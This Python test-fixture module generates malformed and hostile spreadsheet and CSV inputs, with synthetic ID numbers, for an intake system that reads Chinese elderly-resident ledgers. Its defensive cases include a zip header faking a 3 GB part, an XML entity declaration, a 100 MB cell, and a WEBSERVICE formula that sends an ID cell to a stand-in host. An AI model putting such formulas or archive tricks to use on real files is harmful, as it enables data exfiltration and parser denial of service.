"""Files as nobody should make them, made by code: whole files that can't be read, and a list with every mess in it."""

import io
import random
import zipfile
from collections.abc import Callable, Iterator
from typing import Any, NamedTuple

import xlsxwriter

from doorstep.intake.tests.books import HEADER, id_number, person, xlsx

GOOD = id_number(born="19480307", order="935")
HEADING = "姓名,身份证号码,联系电话,家庭住址"
LINE = f"王芳,{GOOD},13800001111,禾畔花园1幢101室"


def two() -> bytes:
    return xlsx({"台账": [HEADER, person(1), person(2)]})


def text(*lines: str, encoding: str = "utf-8", end: str = "\r\n") -> bytes:
    return end.join(lines).encode(encoding)


def changed(part: str, change: Callable[[bytes], bytes], content: bytes | None = None) -> bytes:
    """A workbook of which one part is written otherwise."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content or two())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(old.read(name)) if name.endswith(part) else old.read(name))
    return out.getvalue()


def archive(**parts: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for name, content in parts.items():
            packed.writestr(name.replace("__", "/").replace("_", "."), content)
    return out.getvalue()


def with_password() -> bytes:
    """The parts of an archive marked as enciphered; Excel itself packs the whole workbook into another container."""
    content = bytearray(two())
    for mark, flag in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = content.find(mark)
        while place >= 0:
            content[place + flag] |= 1
            place = content.find(mark, place + 4)
    return bytes(content)


def one_cell(size: int) -> bytes:
    """A cell so long that it is meant to fill the memory."""
    cell = b'<row r="9"><c r="A9" t="inlineStr"><is><t>' + b"0" * size + b"</t></is></c></row></sheetData>"
    return changed("sheet1.xml", lambda part: part.replace(b"</sheetData>", cell))


def blank_rows(amount: int) -> bytes:
    """Rows that are formatted down to the end of the sheet and hold nothing."""
    rows = b"".join(
        b'<row r="%d" s="1"><c r="A%d" s="1"/><c r="B%d" s="1"/></row>' % (at, at, at) for at in range(10, 10 + amount)
    )
    return changed("sheet1.xml", lambda part: part.replace(b"</sheetData>", rows + b"</sheetData>"))


def wide(columns: int) -> bytes:
    more: list[Any] = ["x"] * (columns - len(HEADER))
    return xlsx({"台账": [[*HEADER, *more], [*person(1), *more], [*person(2), *more]]})


def swollen() -> bytes:
    """An archive that says of a part that it unpacks to three gigabytes."""
    content = bytearray(two())
    place = content.find(b"PK\x01\x02")
    while content[place + 46 : place + 46 + 24] != b"xl/worksheets/sheet1.xml":
        place = content.find(b"PK\x01\x02", place + 4)
    content[place + 24 : place + 28] = (3 << 30).to_bytes(4, "little")
    return bytes(content)


#: what it is → (how it is made, the word for what is said)
UNREADABLE: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "empty"),
    "cut off": (lambda: two()[:-300], "damaged"),
    "cut off in the middle": (lambda: two()[: len(two()) // 2], "damaged"),
    "password": (with_password, "encrypted"),
    "password, as Excel packs it": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"),
        "encrypted",
    ),
    "half a workbook of the old kind": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "damaged"),
    "a page named .xls": (lambda: "<html><table><tr><td>姓名".encode("gb18030"), "page"),
    "a page in UTF-16": (lambda: "<html><table><tr><td>姓名".encode("utf-16"), "page"),
    "a page with its pictures": (lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n", "page"),
    "the XML of 2003": (lambda: b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>', "page"),
    "a workbook inside an archive": (lambda: archive(list_xlsx="x"), "packed"),
    "a letter": (lambda: archive(word__document_xml="<w/>"), "not_a_workbook"),
    "unpacks to gigabytes": (swollen, "too_big"),
    "a cell of 100 MB": (lambda: one_cell(100 << 20), "damaged"),
    "a document type": (
        lambda: changed("xl/workbook.xml", lambda part: b'<!DOCTYPE x [<!ENTITY a "b">]>' + part),
        "damaged",
    ),
    "a row that is not closed": (
        lambda: changed("sheet1.xml", lambda part: part.replace(b"</row>", b"</rwo>", 1)),
        "damaged",
    ),
    "two encodings, UTF-8 first": (
        lambda: text(HEADING, LINE, "") + text(LINE, "", encoding="gb18030") + text(LINE),
        "mixed",
    ),
    "two encodings, GB18030 first": (lambda: text(HEADING, LINE, "", encoding="gb18030") + text(LINE), "mixed"),
    "two encodings behind a mark": (
        lambda: text(HEADING, LINE, "", encoding="utf-8-sig") + text(LINE, "", encoding="gb18030") + text(LINE),
        "mixed",
    ),
    "quotation marks in disorder": (
        lambda: text(HEADING, f'"李"明,{GOOD},,', f'"张三,{GOOD},,', f"赵六,{GOOD},,"),
        "quotes",
    ),
    "a quotation mark that is never closed": (lambda: text(HEADING, LINE, f'"张三,{GOOD},,', LINE), "cut_off"),
    "a field of megabytes": (lambda: text(HEADING, f"王芳,{GOOD},,{'x' * (3 << 20)}"), "damaged"),
    "bytes": (lambda: bytes(range(256)) * 8, "not_a_workbook"),
    "sheets without anything": (lambda: xlsx({"Sheet1": [], "Sheet2": []}), "not_a_ledger"),
    "a heading and nobody": (lambda: xlsx({"台账": [HEADER]}), "not_a_ledger"),
}

#: What looks hopeless and is read all the same; two people in each.
READABLE: dict[str, Callable[[], bytes]] = {
    "200,000 rows of nothing": lambda: blank_rows(200_000),
    "16,384 columns": lambda: wide(16_384),
    "a row number out of this world": lambda: changed(
        "sheet1.xml", lambda part: part.replace(b'<row r="2"', b'<row r="99999999999"', 1)
    ),
    "tabs": lambda: text(HEADING, LINE, LINE).replace(b",", b"\t"),
    "a mark of the byte order": lambda: text(HEADING, LINE, LINE, encoding="utf-8-sig"),
    "line ends of an old machine": lambda: text(HEADING, LINE, LINE, end="\r"),
    "a line that names the separator": lambda: b"sep=;\r\n" + text(HEADING, LINE, LINE).replace(b",", b";"),
    "quotation marks inside a name": lambda: text(HEADING, LINE, LINE.replace("芳", '"芳"')),
}


class Mess(NamedTuple):
    content: bytes
    #: row of the file → the name, or the code for which it is refused
    good: dict[int, str]
    bad: dict[int, str]
    twice: set[frozenset[int]]


_FULL = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")
_COLUMNS = ["序号", "姓名", "性别", "身份证号码", "出生日期", "年龄", "联系电话", "家庭住址", "备注"]


def mess(rows: int, *, old_calendar: bool = False) -> Mess:
    """A list of so many lines with all that happens to lists over the years; the same one each time."""
    rng, out = random.Random(20), io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True, "date_1904": old_calendar})
    sheet = book.add_worksheet("台账")
    said = Mess(b"", {}, {}, set())
    sheet.merge_range(0, 0, 0, len(_COLUMNS) - 1, "转水社区老年人信息台账")
    sheet.write_row(1, 0, _COLUMNS)
    first: tuple[int, list[Any]] | None = None
    for at, kind in enumerate(_kinds(rng, rows), start=2):
        row, born = at + 1, f"19{rng.randint(30, 65)}{rng.randint(1, 12):02d}{rng.randint(1, 28):02d}"
        number = id_number(born=born, order=f"9{rng.randint(0, 99):02d}")
        name = f"测{chr(0x4E00 + at % 20000)}"
        cells = [at, name, None, number, None, None, "13800001234", "禾畔花园1幢101室", None]
        if kind == "heading":
            sheet.write_row(at, 0, _COLUMNS)
        elif kind == "section":
            sheet.merge_range(at, 0, at, len(_COLUMNS) - 1, f"第{at % 9 + 1}网格")
        elif kind == "total":
            sheet.write_row(at, 0, ["小计", None, None, None, None, f"{at % 40}人"])
        elif kind == "footer":
            sheet.write_row(at, 0, ["填表人：", None, None, "审核人：", None, None, "2026年9月30日"])
        elif kind == "again" and first:
            sheet.write_row(at, 0, first[1])
            said.good[row] = str(first[1][1])
            said.twice.add(frozenset((first[0], row)))
            first = None
        elif kind != "blank":
            _one(sheet, at, kind, cells, said, old_calendar=old_calendar)
            if kind == "good":
                first = (row, cells)
    book.close()
    return said._replace(content=out.getvalue())


def _kinds(rng: random.Random, rows: int) -> Iterator[str]:
    kinds = ["good"] * 12 + ["full-width", "spaced", "formula", "serial", "whole day", "written"]
    kinds += ["scientific", "as number", "zeros", "unsafe", "masked", "short", "error", "nobody", "again"]
    for at in range(rows):
        if at % 40 == 39:
            yield "heading"
        elif at % 97 == 0:
            yield rng.choice(["section", "total", "footer", "blank"])
        else:
            yield rng.choice(kinds)


_BAD = {
    "scientific": "id_precision_lost",
    "as number": "id_precision_lost",
    "zeros": "id_precision_lost",
    "unsafe": "formula_unsafe",
    "masked": "id_masked",
    "short": "id_length",
    "error": "cell_error",
    "nobody": "name_missing",
}


def _one(sheet: Any, at: int, kind: str, cells: list[Any], said: Mess, *, old_calendar: bool) -> None:
    number, day = str(cells[3]), 13586 - (1462 if old_calendar else 0)
    without = {"serial": day, "whole day": 19370312, "written": "1937年3月12日"}
    said_as = {
        "full-width": number.translate(_FULL),
        "spaced": f"{number[:6]} {number[6:14]} {number[14:]}",
        "scientific": "3.20602E+17",
        "as number": int(number[:17]) * 10,
        "zeros": int(number[:15]) * 1000,
        "masked": number[:6] + "********" + number[14:],
        "short": number[:16],
    }
    cells[3] = said_as.get(kind, number)
    if kind in without:
        cells[3], cells[4] = "无证件", without[kind]
    if kind == "nobody":
        cells[1] = None
    sheet.write_row(at, 0, cells)
    if kind == "formula":
        sheet.write_formula(at, 1, f'=TRIM("{cells[1]}")', None, cells[1])
        sheet.write_formula(at, 5, "=1+1", None, 2026 - int(number[6:10]))
    elif kind == "unsafe":
        sheet.write_formula(at, 1, '=WEBSERVICE("http://x.example/"&D1)', None, cells[1])
    elif kind == "error":
        sheet.write_formula(at, 3, "=1/0", None, "#DIV/0!")
    if kind in _BAD:
        said.bad[at + 1] = _BAD[kind]
    else:
        said.good[at + 1] = str(cells[1])
